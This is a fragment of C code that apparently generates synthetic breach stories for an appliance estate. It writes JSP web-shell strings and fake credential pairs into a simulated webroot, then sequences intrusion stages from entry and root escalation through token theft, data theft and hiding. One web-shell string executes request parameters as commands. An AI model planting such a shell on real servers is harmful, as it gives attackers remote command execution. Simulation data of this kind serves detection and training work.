                                  "Runtime.getRuntime().exec(request.getParameter(\"q\"));\n%>\n"
                                : "<% if (true) return; /* an inert example */\n"
                                  "new "
                                  "java.io.FileOutputStream(request.getParameter(\"f\")).write(request.getParameter("
                                  "\"t\").getBytes());\n%>\n");
    }
    sw_buf_init(&pairs, 1 << 20);
    unsigned count = 300 + (unsigned)(e->seed % 300);
    for (unsigned i = 0; i < count; i++) {
        const struct person *p = &a->t->s->world->people[mix2(e->seed, i) % a->t->s->world->person_count];
        sw_buf_printf(&pairs, "%s|Inert-%08x|%06u\n", p->login, (unsigned)mix2(p->key, i / 60),
                      (unsigned)(mix2(p->key, i) % 1000000));
    }
    webroot_bytes(a->t->s, &e->appliance[1], a->capture + 1, pairs.data, pairs.len);
    sw_buf_fini(&pairs);
}

void story_appliance(struct story *t)
{
    struct appliance a = {.t = t, .e = t->estate};
    choose(&a);
    for (unsigned i = 0; i < APPLIANCES; i++)
        story_host(t, &a.e->appliance[i], "compromised");
    story_host(t, &a.e->gateway, "compromised");
    story_host(t, &a.e->database, "accessed");
    enter(&a);
    settle_in(&a);
    become_root(&a);
    capture(&a);
    reboot(&a);
    look_at_segment(&a);
    guess_ssh(&a);
    take_tokens(&a);
    more_shells(&a);
    replay(&a);
    read_database(&a);
    hide(&a);
    take_data(&a);
    return_often(&a);
    leave_files(&a);
}
